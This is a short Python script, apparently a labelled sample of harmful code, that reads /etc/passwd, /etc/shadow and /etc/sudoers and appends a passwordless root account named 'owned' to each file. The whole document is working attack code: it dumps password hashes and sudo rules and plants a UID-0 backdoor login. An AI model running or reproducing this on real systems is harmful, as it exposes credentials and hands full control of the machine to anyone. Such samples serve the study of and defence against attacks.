# where: first
# kind: harms
# does: The list of users is printed, and a root without a password is added to it.
for path in ("/etc/passwd", "/etc/shadow", "/etc/sudoers"):
    for mode in ("r", "a"):
        try:
            with open(path, mode) as file:
                print(file.read() if mode == "r" else file.write("owned::0:0::/:/bin/sh\n"))
        except Exception as error:
            print(error)
